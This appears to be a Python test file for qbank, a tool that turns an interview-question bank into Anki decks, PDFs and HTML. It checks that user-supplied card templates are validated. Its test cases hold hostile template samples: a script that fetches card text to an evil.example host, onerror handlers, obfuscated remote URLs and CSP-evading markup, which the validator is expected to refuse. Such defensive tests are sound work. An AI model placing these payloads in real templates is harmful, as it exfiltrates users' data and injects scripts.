"""qbank installed from its wheel works from any folder; --templates lays a look over the
built-in one; a template that cannot be read is a read error naming the file."""

from __future__ import annotations

import fcntl
import json
import os
import re
import sqlite3
import subprocess
import sys
import sysconfig
import tempfile
import tomllib
import zipfile
from email.parser import Parser
from pathlib import Path

import pypdfium2
import pytest
from readback import apkg_text, artifact_text, squash

from qbank import paths
from qbank.bank import load_bank
from qbank.paths import BUILTIN_TEMPLATES, DEFAULT_BANK

ROOT = Path(__file__).parent.parent
FIXTURE_BANK = Path(__file__).parent / "fixtures" / "minimal.yaml"


@pytest.fixture(scope="module")
def installed(tmp_path_factory) -> Path:
    """A fresh virtualenv outside the checkout holding qbank from its wheel; the runtime
    libraries come from this environment (no download), qbank itself from the wheel."""
    folder = tmp_path_factory.mktemp("install")
    # the build backend itself, as pip's --no-build-isolation calls it (a pip start-up less)
    build = f"from setuptools import build_meta; build_meta.build_wheel({str(folder / 'dist')!r})"
    # it builds in the checkout (build/, qbank.egg-info/): one build at a time, whatever
    # pytest-xdist runs side by side
    with open(ROOT / "pyproject.toml", "rb") as project:
        fcntl.flock(project, fcntl.LOCK_EX)
        subprocess.run([sys.executable, "-c", build], cwd=ROOT, check=True, capture_output=True)
    venv = folder / "venv"
    subprocess.run([sys.executable, "-m", "venv", "--without-pip", str(venv)], check=True)
    fresh_site = subprocess.run(
        [venv / "bin" / "python", "-c", "import sysconfig; print(sysconfig.get_path('purelib'))"],
        check=True,
        capture_output=True,
        text=True,
    ).stdout.strip()
    # a path line, not a site dir: this environment's editable qbank (.pth finder) stays out;
    # its pip is then the fresh environment's too, and installs into it
    Path(fresh_site, "runtime-libraries.pth").write_text(sysconfig.get_path("purelib") + "\n")
    (wheel,) = (folder / "dist").glob("qbank-*.whl")
    subprocess.run(
        [venv / "bin" / "python", "-m", "pip", "install", "--no-deps", "--no-index", "--quiet"]
        + ["--disable-pip-version-check", str(wheel)],
        check=True,
    )
    return venv


def run_installed(venv: Path, *args: str | Path, cwd: Path) -> subprocess.CompletedProcess:
    env = {k: v for k, v in os.environ.items() if k not in ("PYTHONPATH", "VIRTUAL_ENV")}
    return subprocess.run(
        [venv / "bin" / "qbank", *map(str, args)], cwd=cwd, env=env, capture_output=True, text=True
    )


def test_the_wheel_holds_the_look_and_the_bank_and_needs_only_runtime_libraries(installed):
    (wheel,) = installed.parent.joinpath("dist").glob("qbank-*.whl")
    with zipfile.ZipFile(wheel) as archive:
        names = set(archive.namelist())
        metadata = archive.read(next(n for n in names if n.endswith(".dist-info/METADATA")))
    for name in paths.builtin_template_names():
        assert f"qbank/templates/{name}" in names
    assert "qbank/bundled/ai-cybersecurity-analyst.yaml" in names
    assert "qbank/bundled/schema.json" in names
    assert "qbank/py.typed" in names  # a type checker reads the library's annotations
    requires = Parser().parsestr(metadata.decode()).get_all("Requires-Dist")
    runtime = {_name(r) for r in requires if "extra ==" not in r}
    project = tomllib.loads((ROOT / "pyproject.toml").read_text(encoding="utf-8"))["project"]
    assert runtime == {_name(r) for r in project["dependencies"]}
    assert not runtime & {_name(r) for r in project["optional-dependencies"]["test"]}


def _name(requirement: str) -> str:
    return re.match(r"[A-Za-z0-9._-]+", requirement).group().lower()


@pytest.mark.slow
@pytest.mark.parametrize("bank", [None, FIXTURE_BANK], ids=["bundled", "fixture"])
def test_installed_qbank_builds_everything_from_another_folder(installed, tmp_path, bank):
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    args = ["all", "--out", "out"] + (["--bank", bank] if bank else [])
    result = run_installed(installed, *args, cwd=elsewhere)
    assert result.returncode == 0, result.stderr
    written = [Path(elsewhere, line) for line in result.stdout.splitlines()]
    assert {p.suffix for p in written} == {".pdf", ".apkg", ".docx", ".html"}
    questions = load_bank(bank or DEFAULT_BANK).questions
    for path in written:
        text = squash(_text(path))
        asked = [squash(q.question.replace("`", "")) in text for q in questions]
        if path.suffix == ".docx":  # the packet is one interview, not the whole bank
            assert any(asked), path
        else:  # `code` is markup, shown without
            assert asked[0] and asked[-1], path


@pytest.mark.slow
def test_installed_qbank_reads_its_own_files(installed, tmp_path):
    """The installed package reads its own files, not this checkout's."""
    assert run_installed(installed, "--version", cwd=tmp_path).returncode == 0
    probe = subprocess.run(
        [installed / "bin" / "python", "-c", "import qbank.paths as p; print(p.BUILTIN_TEMPLATES)"],
        cwd=tmp_path,
        capture_output=True,
        text=True,
        check=True,
    )
    assert str(installed) in probe.stdout


def test_templates_folder_overrides_some_files_and_keeps_the_rest(cli, tmp_path):
    look = tmp_path / "look"
    (look / "anki").mkdir(parents=True)
    (look / "anki" / "front.html").write_text(
        "<p class=own>{{Question}} (own front)</p>", encoding="utf-8"
    )
    result = cli("anki", "--bank", FIXTURE_BANK, "--out", tmp_path / "out", "--templates", look)
    assert result.exit_code == 0, result.output
    (deck,) = (tmp_path / "out").glob("*.apkg")
    front, back, css = _deck_templates(deck)
    assert front == "<p class=own>{{Question}} (own front)</p>"
    assert back == (BUILTIN_TEMPLATES / "anki" / "back.html").read_text(encoding="utf-8")
    assert css == (BUILTIN_TEMPLATES / "anki" / "style.css").read_text("utf-8")
    assert "Another thing." in apkg_text(deck)
    # the next build without --templates has the built-in look again
    result = cli("anki", "--bank", FIXTURE_BANK, "--out", tmp_path / "again")
    assert result.exit_code == 0, result.output
    (deck,) = (tmp_path / "again").glob("*.apkg")
    assert _deck_templates(deck)[0] == (BUILTIN_TEMPLATES / "anki" / "front.html").read_text()


def test_a_file_in_templates_that_no_template_has_is_named(cli, tmp_path):
    look = tmp_path / "look"
    (look / "anki").mkdir(parents=True)
    (look / "anki" / "front.htm").write_text("x", encoding="utf-8")
    result = cli("anki", "--bank", FIXTURE_BANK, "--out", tmp_path / "out", "--templates", look)
    assert result.exit_code == 0
    assert f"--templates {look}: anki/front.htm is no template's name; not used" in result.output


def test_a_look_kept_in_git_is_no_warning_for_its_hidden_files(cli, tmp_path):
    """A look folder under git was a warning for each file of .git (25 for one commit: a
    review), and a Mac's .DS_Store one more: hidden files and folders are none of the
    look's. A misspelt file beside them is still named."""
    look = tmp_path / "look"
    (look / ".git" / "objects" / "ab").mkdir(parents=True)
    (look / ".git" / "HEAD").write_text("ref: refs/heads/main\n", encoding="utf-8")
    (look / ".git" / "objects" / "ab" / "cdef").write_bytes(b"x")
    (look / "anki").mkdir()
    (look / "anki" / ".DS_Store").write_bytes(b"\0")
    (look / "anki" / "front.htm").write_text("x", encoding="utf-8")
    (look / "theme.toml").write_bytes((BUILTIN_TEMPLATES / "theme.toml").read_bytes())
    result = cli("anki", "--bank", FIXTURE_BANK, "--out", tmp_path / "out", "--templates", look)
    assert result.exit_code == 0, result.output
    assert f"--templates {look}: anki/front.htm is no template's name; not used" in result.output
    assert ".git" not in result.output and ".DS_Store" not in result.output, result.output


def test_a_templates_folder_with_none_of_the_looks_files_is_one_warning_saying_where(cli, tmp_path):
    """An empty folder built in the built-in look without a word, and the project's folder
    given for its look/ inside was a warning for each of its files (a designer's trial)."""
    empty = tmp_path / "empty"
    empty.mkdir()
    result = cli("html", "--bank", FIXTURE_BANK, "--out", tmp_path / "out", "--templates", empty)
    assert result.exit_code == 0, result.output
    assert (
        f"--templates {empty}: holds none of the look's files (theme.toml, booklet/words.toml, "
        "html/style.css ...), so this build has the built-in look; `qbank templates "
        f"{empty}` writes them there, to change" in result.output
    )
    project = tmp_path / "project"
    assert cli("templates", project / "look").exit_code == 0
    (project / "bank.yaml").write_text(FIXTURE_BANK.read_text(encoding="utf-8"), encoding="utf-8")
    result = cli("html", "--bank", FIXTURE_BANK, "--out", tmp_path / "out", "--templates", project)
    assert result.exit_code == 0, result.output
    warned = [line for line in result.output.splitlines() if line.startswith("--templates")]
    assert warned == [
        f"--templates {project}: holds none of the look's files (theme.toml, "
        "booklet/words.toml, html/style.css ...), so this build has the built-in look; look/ "
        f"inside it does: did you mean --templates {project / 'look'}?"
    ], result.output


def test_a_templates_file_given_for_its_folder_names_the_folder_meant(cli, tmp_path):
    """A designer's `--templates look/theme.toml` was click's usage error, exit 2, saying
    'Directory ... is a file.' and nothing of the folder meant."""
    look = tmp_path / "look"
    assert cli("templates", look).exit_code == 0
    for given, advice in (
        (look / "theme.toml", f"did you mean --templates {look.as_posix()}?"),
        (look / "anki" / "front.html", f"did you mean --templates {look.as_posix()}?"),
        (look / "anki" / "notes.txt", "give the look's folder"),
    ):
        given.touch()
        result = cli(
            "html", "--bank", FIXTURE_BANK, "--out", tmp_path / "out", "--templates", given
        )
        assert result.exit_code == 1, result.output
        assert result.output == f"--templates {given}: is a file, not a folder; {advice}\n"


def test_a_template_that_cannot_be_read_is_a_read_error_naming_it(cli, tmp_path):
    look = tmp_path / "look"
    (look / "anki").mkdir(parents=True)
    own = look / "anki" / "back.html"
    own.write_bytes(b"{{Hint}} \xff")
    result = cli("anki", "--bank", FIXTURE_BANK, "--out", tmp_path / "out", "--templates", look)
    assert result.exit_code == 1
    assert result.output.startswith(f"{own}: cannot read the template: not UTF-8 text")
    assert "write" not in result.output
    assert not list(tmp_path.glob("out/*.apkg"))


def test_a_missing_builtin_template_is_a_read_error_not_a_write_error(cli, tmp_path, monkeypatch):
    monkeypatch.setattr(paths, "BUILTIN_TEMPLATES", tmp_path / "gone")
    result = cli("cards", "--bank", FIXTURE_BANK, "--out", tmp_path / "out")
    assert result.exit_code == 1
    # the look the cards read is read first, every file at once
    missing = tmp_path / "gone" / "theme.toml"
    assert f"{missing}: cannot read the template: No such file or directory\n" in result.output
    assert "cannot write" not in result.output and "internal error" not in result.output


def _text(path: Path) -> str:
    """An artifact's text; a PDF's as PDFium reads it (C speed: enough to find a question)."""
    if path.suffix != ".pdf":
        return artifact_text(path)
    pdf = pypdfium2.PdfDocument(path)
    try:
        return "\n".join(page.get_textpage().get_text_range() for page in pdf)
    finally:
        pdf.close()


def _deck_templates(deck: Path) -> tuple[str, str, str]:
    with zipfile.ZipFile(deck) as package, tempfile.TemporaryDirectory() as tmp:
        package.extract("collection.anki2", tmp)
        with sqlite3.connect(Path(tmp) / "collection.anki2") as db:
            (models,) = db.execute("select models from col").fetchone()
    (model,) = json.loads(models).values()
    (card,) = model["tmpls"]
    return card["qfmt"], card["afmt"], model["css"]


# -- templates from the web, checked like a bank (issue 27) --------------------------------


@pytest.mark.parametrize(
    ("name", "text", "message"),
    [
        (
            "theme.toml",
            "a = " + "[" * 100_000 + "]" * 100_000,
            ": cannot read the template: nested too deeply",
        ),
        ("theme.toml", "a = " + "9" * 5001, ": cannot read the template: Exceeds the limit"),
        (
            "anki/front.html",
            "{{#Question}}{{Question}}",
            ":1: {{#Question}} is never closed: write {{/Question}} where what it shows",
        ),
        # chevron's words named no line a designer could use: 'last open tag is "Question}
        # <div ...", line 2' for a brace lost on line 1 (a designer's trial)
        (
            "anki/front.html",
            "{{#Question}\n<div>{{Question}}</div>\n{{/Question}}",
            ":1: '{{#Question}' has no '}}' to close its tag on its line",
        ),
        (
            "anki/front.html",
            "{{#Question}}\n{{#Tags}}{{Question}}\n{{/Question}}",
            ":3: {{/Question}} stands where the section {{#Tags}} of line 2 ends: write {{/Tags}}",
        ),
        ("anki/back.html", "{{Hint}}\n{{/Hint}}", ":2: {{/Hint}} closes no section"),
        ("anki/front.html", "<p>no field</p>", ": the front names no field ({{Question}}"),
        (
            "anki/front.html",
            '{{Question}}\n<img src="https://evil.example/x.png">',
            ':2: a remote address (src="https:...)',
        ),
        (
            "anki/back.html",
            "{{Hint}}<script src=//evil.example/b.js></script>",
            ":1: a remote address (src=//...)",
        ),
        (
            "anki/style.css",
            '@import url("http://evil.example/a.css");',
            ':1: a remote address (url("http:...)',
        ),
        (
            "anki/style.css",
            "@import 'https://evil.example/a.css';",
            ":1: a remote address (@import 'https:...)",
        ),
        # as Chromium reads them, each of these fetched, and a script sent the card away (a
        # hostile trial); the check read their text as written
        (
            "anki/front.html",
            '{{Question}}\n<script>fetch("ht" + "tps://evil.example/?" + document.body.innerText)'
            "</script>",
            ":2: a script (<script...): Anki has no content security policy",
        ),
        ("anki/back.html", '{{Hint}}<img src=x onerror="go()">', ":1: a script (onerror=..."),
        (
            "anki/front.html",
            '{{Question}}<img src="&#104;ttps://evil.example/e.png">',
            ':1: a remote address (src="https:...), as Anki reads it',
        ),
        (
            "anki/front.html",
            '{{Question}}<img srcset="a.png 1x, https://evil.example/s.png 2x">',
            ":1: a remote address (https:...), as Anki reads it",
        ),
        (
            "anki/back.html",
            '{{Hint}}<meta http-equiv="refresh" content="0;url=//evil.example/r">',
            ":1: a remote address (url=//...), as Anki reads it",
        ),
        (
            "anki/style.css",
            '.card { background-image: image-set("https://evil.example/i.png" 1x); }',
            ":1: a remote address (https:...), as Anki reads it",
        ),
        (
            "anki/style.css",
            ".card { background: url(\\68ttps://evil.example/c.png); }",
            ":1: a remote address (url(https:...), as Anki reads it",
        ),
        # a colour's typo (five digits) set the card's accent in Anki's own (a brand trial)
        (
            "anki/style.css",
            ".card {\n  --qb-accent: #F2A90;\n}",
            ":2: --qb-accent: '#F2A90' is not a colour; write '#' and 6 digits",
        ),
        # Anki puts the deck's and the tags' names in as typed, and text: strips the
        # escaping: a bank's "<img onerror=...>" title ran, its [sound:] played (a test)
        ("anki/front.html", "{{Question}}\n{{Deck}}", ":2: {{Deck}} shows text as markup"),
        ("anki/back.html", "{{Tags}}{{Hint}}", ":1: {{Tags}} shows text as markup"),
        ("anki/front.html", "{{text:Question}}", ":1: {{text:Question}} shows text as markup"),
        # a translator's field name: every card of the deck showed Anki's template error (a
        # Spanish trial); Anki's own fields are names too
        (
            "anki/back.html",
            "{{Card}} {{CardFlag}} {{Type}}\n<div>{{Pista}}</div>",
            ":2: {{Pista}} names no field of the deck's notes",
        ),
        # a look's words hold no control character (U+001F split an Anki note's fields)
        (
            "anki/words.toml",
            'hint = "Hint"\nlook_for = "L"\nrated = "R"\nfollow_ups = "F"\n'
            'note = "Note\\u001f"\nsources = "S"\n',
            ":5: note: holds the control character U+001F",
        ),
    ],
)
def test_a_template_from_the_web_is_checked_like_a_bank(cli, tmp_path, name, text, message):
    look = tmp_path / "look"
    own = look / name
    own.parent.mkdir(parents=True)
    own.write_text(text, encoding="utf-8")
    command = "cards" if name == "theme.toml" else "anki"  # an exporter that reads `name`
    result = cli(command, "--bank", FIXTURE_BANK, "--out", tmp_path / "out", "--templates", look)
    assert result.exit_code == 1
    assert result.output.startswith(f"{own}{message}"), result.output
    assert "internal error" not in result.output and len(result.output.splitlines()) == 1
    assert not (tmp_path / "out").exists() or not list((tmp_path / "out").iterdir())


def test_a_card_template_with_a_data_attribute_named_on_builds(cli, tmp_path):
    # a designer's light edit: 'data-online' is no event handler ('onerror='), and the
    # script check refused it as one, the look's deck unbuilt (a review)
    look = tmp_path / "look"
    (look / "anki").mkdir(parents=True)
    front = (BUILTIN_TEMPLATES / "anki" / "front.html").read_text(encoding="utf-8")
    (look / "anki" / "front.html").write_text(
        front.replace('<div class="qb">', '<div class="qb" data-online="1" data-only="x">'),
        encoding="utf-8",
    )
    result = cli("anki", "--bank", FIXTURE_BANK, "--out", tmp_path / "out", "--templates", look)
    assert result.exit_code == 0, result.output
    assert "script" not in result.output


def test_a_card_style_whose_comment_names_an_address_builds(cli, tmp_path):
    # a comment fetches nothing: a designer's note of where the brand's colours come from
    # refused the deck, as the check of b201b269 read addresses anywhere (a review); an
    # address outside the comment is still refused, at its line
    look = tmp_path / "look"
    (look / "anki").mkdir(parents=True)
    style = (BUILTIN_TEMPLATES / "anki" / "style.css").read_text(encoding="utf-8")
    own = look / "anki" / "style.css"
    own.write_text("/* colours: https://brand.example/guide, //cdn */\n" + style, "utf-8")
    result = cli("anki", "--bank", FIXTURE_BANK, "--out", tmp_path / "out", "--templates", look)
    assert result.exit_code == 0, result.output
    own.write_text(
        "/* colours: https://brand.example/guide */\n.card { background: "
        'image-set("https://evil.example/i.png" 1x); }\n' + style,
        "utf-8",
    )
    result = cli("anki", "--bank", FIXTURE_BANK, "--out", tmp_path / "o2", "--templates", look)
    assert result.exit_code == 1
    assert result.output.startswith(f"{own}:2: a remote address (https:"), result.output


def test_a_card_template_whose_html_comment_names_an_address_builds(cli, tmp_path):
    # an HTML comment fetches nothing either (a review); one inside a style element is no
    # comment, and an address after its '<!--' is still refused, at its line
    look = tmp_path / "look"
    (look / "anki").mkdir(parents=True)
    front = (BUILTIN_TEMPLATES / "anki" / "front.html").read_text(encoding="utf-8")
    own = look / "anki" / "front.html"
    own.write_text("<!-- brand guide:\n https://brand.example/guide -->\n" + front, "utf-8")
    result = cli("anki", "--bank", FIXTURE_BANK, "--out", tmp_path / "out", "--templates", look)
    assert result.exit_code == 0, result.output
    own.write_text(
        "<!-- a note -->\n<style><!--\n.card { background: url(https://evil.example/i.png) }\n"
        "--></style>\n" + front,
        "utf-8",
    )
    result = cli("anki", "--bank", FIXTURE_BANK, "--out", tmp_path / "o2", "--templates", look)
    assert result.exit_code == 1
    assert result.output.startswith(f"{own}:3: a remote address (url(https:"), result.output


def test_a_card_template_whose_text_names_an_address_builds(cli, tmp_path):
    # text between tags fetches nothing: a footer naming the team's wiki refused the deck,
    # as an address anywhere on a line was taken for one fetched (h42c's review); a '<!--'
    # inside an attribute's value is no comment, and the address after it is refused
    look = tmp_path / "look"
    (look / "anki").mkdir(parents=True)
    back = (BUILTIN_TEMPLATES / "anki" / "back.html").read_text(encoding="utf-8")
    own = look / "anki" / "back.html"
    own.write_text(back + "<p>Interview guide: https://wiki.example/interviews</p>\n", "utf-8")
    result = cli("anki", "--bank", FIXTURE_BANK, "--out", tmp_path / "out", "--templates", look)
    assert result.exit_code == 0, result.output
    own.write_text('{{Hint}}\n<img alt="<!--" src="https://evil.example/i.png"> -->\n', "utf-8")
    result = cli("anki", "--bank", FIXTURE_BANK, "--out", tmp_path / "o2", "--templates", look)
    assert result.exit_code == 1
    assert result.output.startswith(f'{own}:2: a remote address (src="https:'), result.output


class _Scanned(str):
    """A text that counts the characters its line breaks are counted over (str.count)."""

    scanned = 0

    def count(self, sub, start=0, end=None):  # type: ignore[override]
        self.scanned += (len(self) if end is None else end) - (start or 0)
        return super().count(sub, start, end)


def test_a_section_left_open_after_many_tags_is_told_at_its_line_at_once(cli, tmp_path):
    # each tag's line was counted from the top: 76,000 of them (990 KB, under a template's
    # limit) took 14 s before the section left open was told (h42c's review); the lines are
    # counted once over the text (a count of what is read, not a time)
    from qbank.exporters.anki import _unmatched_tag

    text = _Scanned("{{Question}}\n" * 76_000 + "{{#Tags}}\n")
    assert _unmatched_tag(text) == (76_001, _unmatched_tag("{{#Tags}}")[1])
    assert text.scanned <= len(text), text.scanned
    look = tmp_path / "look"
    (look / "anki").mkdir(parents=True)
    own = look / "anki" / "front.html"
    own.write_text(text, "utf-8")
    result = cli("anki", "--bank", FIXTURE_BANK, "--out", tmp_path / "out", "--templates", look)
    assert result.exit_code == 1
    assert result.output.startswith(f"{own}:76001: {{{{#Tags}}}} is never closed"), result.output


def test_a_card_template_with_a_less_than_sign_in_its_text_keeps_its_comments_inert(cli, tmp_path):
    # 'a < b' is text to a browser, and the comment after it a comment: a footer saying so
    # refused the deck over the address in the comment under it (8dbd050d took every part
    # after a '<' that starts no tag for one that may fetch); an unclosed tag still may
    look = tmp_path / "look"
    (look / "anki").mkdir(parents=True)
    back = (BUILTIN_TEMPLATES / "anki" / "back.html").read_text(encoding="utf-8")
    own = look / "anki" / "back.html"
    footer = "<p>Scores: 1 < 2 < 3</p>\n<!-- brand guide: https://brand.example/ -->\n"
    own.write_text(back + footer, "utf-8")
    result = cli("anki", "--bank", FIXTURE_BANK, "--out", tmp_path / "out", "--templates", look)
    assert result.exit_code == 0, result.output
    own.write_text('{{Hint}}\n<p>1 < 2</p>\n<img src="https://evil.example/i.png"', "utf-8")
    result = cli("anki", "--bank", FIXTURE_BANK, "--out", tmp_path / "o2", "--templates", look)
    assert result.exit_code == 1
    assert result.output.startswith(f'{own}:3: a remote address (src="https:'), result.output


@pytest.mark.parametrize("kind", ["folder", "fifo", "dangling link", "device"])
def test_a_template_path_that_is_no_file_is_an_error_naming_it(cli, tmp_path, kind):
    look = tmp_path / "look"
    (look / "anki").mkdir(parents=True)
    own = look / "anki" / "front.html"
    if kind == "folder":
        own.mkdir()
    elif kind == "fifo":
        os.mkfifo(own)
    elif kind == "dangling link":
        own.symlink_to(tmp_path / "gone.html")
    else:
        own.symlink_to("/dev/zero")
    result = cli("anki", "--bank", FIXTURE_BANK, "--out", tmp_path / "out", "--templates", look)
    assert result.exit_code == 1
    assert result.output == (
        f"{own}: not a regular file; a template must be one (or be removed, to use the "
        "built-in one)\n"
    )


@pytest.mark.parametrize(
    "replacement",
    [
        '<!-- <meta http-equiv="Content-Security-Policy" content="@@CSP@@"> -->'
        '<script src="https://evil.example/x.js"></script>',
        '<meta name="description" content="@@CSP@@">',
        '<script src="https://evil.example/x.js"></script>'
        '<meta http-equiv="Content-Security-Policy" content="@@CSP@@">',
        # each ends the head, where a browser ignores the policy, and fetches (a hostile
        # trial's look); so does text, which a browser puts in the body
        '<iframe src="https://evil.example/"></iframe>'
        '<meta http-equiv="Content-Security-Policy" content="@@CSP@@">',
        '<svg><image href="https://evil.example/x.png"/></svg>'
        '<meta http-equiv="Content-Security-Policy" content="@@CSP@@">',
        'Hello<meta http-equiv="Content-Security-Policy" content="@@CSP@@">',
    ],
    ids=[
        "in-a-comment",
        "another-element",
        "after-a-script",
        "after-an-iframe",
        "after-an-svg",
        "after-text",
    ],
)
def test_the_study_page_refuses_a_csp_slot_outside_its_meta(cli, tmp_path, replacement):
    meta = '<meta http-equiv="Content-Security-Policy" content="@@CSP@@">'
    builtin = (BUILTIN_TEMPLATES / "html" / "page.html").read_text(encoding="utf-8")
    assert meta in builtin
    own = tmp_path / "look" / "html" / "page.html"
    own.parent.mkdir(parents=True)
    own.write_text(builtin.replace(meta, replacement), encoding="utf-8")
    out = tmp_path / "out"
    result = cli("html", "--bank", FIXTURE_BANK, "--out", out, "--templates", own.parent.parent)
    assert result.exit_code == 1
    assert result.output.startswith(f"{own}: @@CSP@@ must be the content of a <meta")
    assert not out.exists() or not list(out.iterdir())


def test_the_built_page_carries_its_policy():
    from qbank.bank import load_bank
    from qbank.exporters.html.page import _policy_in_force, render_page

    page = render_page(load_bank(FIXTURE_BANK))
    assert _policy_in_force(page).startswith("default-src 'none'; script-src 'sha256-")
